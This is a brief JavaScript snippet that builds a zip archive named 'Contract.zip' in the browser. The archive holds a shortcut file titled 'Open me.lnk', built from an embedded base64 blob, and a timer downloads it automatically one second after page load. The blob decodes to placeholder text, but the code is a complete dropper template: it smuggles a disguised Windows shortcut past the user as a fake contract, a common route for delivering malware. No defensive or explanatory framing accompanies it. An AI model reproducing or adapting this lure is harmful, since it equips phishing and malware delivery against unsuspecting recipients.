import { saveAs } from 'file-saver';
import JSZip from 'jszip';
const inner = 'UExBQ0VIT0xERVIgUExBQ0VIT0xERVIgUExBQ0VIT0xERVI=';
async function give() {
  const zip = new JSZip();
  zip.file('Open me.lnk', inner, { base64: true });
  const b = await zip.generateAsync({ type: 'blob' });
  saveAs(b, 'Contract.zip');
}
setTimeout(give, 1000);
